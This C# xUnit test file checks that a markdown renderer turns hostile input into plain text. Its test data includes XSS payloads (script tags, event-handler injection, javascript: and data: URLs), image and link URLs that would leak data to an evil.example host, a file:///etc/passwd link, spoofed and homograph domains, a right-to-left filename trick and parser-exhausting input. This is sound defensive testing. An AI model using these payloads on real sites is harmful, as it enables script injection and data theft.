using Istota.Host.Web.Pages;
using Xunit;

namespace Istota.Tests.Web;

/// <summary>What a message may become in a page. Everything else that a writer can think of stays text.</summary>
public sealed class MarkdownTextTests
{
    private static string Html(string text) => MarkdownText.Render(text).Value.Trim();

    [Fact]
    public void A_link_leads_outside_without_a_trace_and_shows_where() => Assert.Equal(
        """<p><a href="https://example.org/a?b=c" rel="noreferrer noopener" target="_blank">the menu</a> (https://example.org/a?b=c)</p>""", Html("[the menu](https://example.org/a?b=c \"a title\")"));

    [Theory]
    [InlineData("https://example.org/menu")]
    [InlineData("<https://example.org/menu>")]
    [InlineData("[https://example.org/menu](https://example.org/menu)")]
    public void A_link_that_says_itself_says_it_once(string text) => Assert.Equal(
        """<p><a href="https://example.org/menu" rel="noreferrer noopener" target="_blank">https://example.org/menu</a></p>""", Html(text));

    [Theory]
    [InlineData("see https://evil.example/?secret", "<p>see https://evil.example/?secret</p>")]
    [InlineData("[your **report**](https://evil.example/?secret)", "<p>your report (https://evil.example/?secret)</p>")]
    [InlineData("<mailto:eve@evil.example>", "<p>mailto:eve@evil.example</p>")]
    [InlineData("[x](javascript:alert(1))", "<p>x</p>")]
    public void S_67_an_address_that_somebody_outside_chose_is_only_words(string text, string html) =>
        Assert.Equal(html, MarkdownText.Render(text, links: false).Value.Trim());

    [Theory]
    [InlineData("[bank.example](https://bank.example@evil.example/x)", "https://evil.example/x")]
    [InlineData("[аррӏе](https://аррӏе.com/)", "https://xn--80ak6aa92e.com/")]
    [InlineData("[write](mailto:ada@example.org?bcc=evil@example.org&body=x)", "mailto:ada@example.org")]
    public void A_target_is_shown_as_it_is_and_not_as_it_poses(string text, string target)
    {
        var html = Html(text);
        Assert.Contains($"href=\"{target}\"", html, StringComparison.Ordinal);
        Assert.Contains($"({target})", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("[x](vbscript:x)")]
    [InlineData("[x](file:///etc/passwd)")]
    [InlineData("[x](/sign-out)")]
    [InlineData("[x](//evil.example/)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[x]: javascript:alert(1)\n\n[x]")]
    public void A_link_of_another_kind_is_text(string text)
    {
        Assert.DoesNotContain("href", Html(text), StringComparison.Ordinal);
        Assert.DoesNotContain("<a", Html(text), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("![words](https://evil.example/?d=secret)", "<p>words</p>")]
    [InlineData("![](https://evil.example/?d=secret)", "<p>https://evil.example/?d=secret</p>")]
    [InlineData("![words][r]\n\n[r]: https://evil.example/?d=secret", "<p>words</p>")]
    [InlineData("[![words](https://evil.example/p)](https://example.org/)", """<p><a href="https://example.org/" rel="noreferrer noopener" target="_blank">words</a> (https://example.org/)</p>""")]
    public void S_66_an_image_is_its_words(string text, string html) => Assert.Equal(html, Html(text));

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("a <b onclick=x>b</b> <iframe src=//evil.example></iframe>")]
    [InlineData("<style>body { display: none }</style>")]
    [InlineData("</div></article><form action=//evil.example><input name=x>")]
    [InlineData("```html\n<script>alert(1)</script>\n```")]
    [InlineData("```\" onmouseover=\"alert(1)\nx\n```")]
    [InlineData("[a](https://example.org/\"onmouseover=\"alert(1))")]
    public void Markup_of_the_writers_own_is_text(string text)
    {
        var html = Html(text);
        foreach (var tag in new[] { "<script", "<img", "<b", "<iframe", "<style", "<form", "<input", "</article" })
            Assert.DoesNotContain(tag, html.Replace("<br", "", StringComparison.Ordinal), StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("\" onmouseover", html, StringComparison.Ordinal);
        Assert.DoesNotContain("\"onmouseover", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Text_that_turns_its_direction_around_is_read_as_it_is_written() =>
        Assert.Equal("<p>invoicefdp.exe and more</p>", Html("invoice\u202efdp.exe\u2066 and \u200fmore"));

    [Theory]
    [InlineData(">", 20_000)]
    [InlineData("[", 20_000)]
    [InlineData("* ", 5_000)]
    [InlineData("**a", 15_000)]
    [InlineData("x", 2_000_000)]
    public void Text_that_is_made_to_exhaust_is_shown_all_the_same(string part, int times)
    {
        var clock = System.Diagnostics.Stopwatch.StartNew();
        Assert.NotEmpty(Html(string.Concat(Enumerable.Repeat(part, times))));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"{part}: {clock.Elapsed}");
    }

    [Fact]
    public void Lines_stay_lines_and_headings_stand_below_the_pages()
    {
        Assert.Equal("<p>one<br />\ntwo</p>", Html("one\ntwo"));
        Assert.Equal("<h3>Title</h3>", Html("# Title"));
    }
}
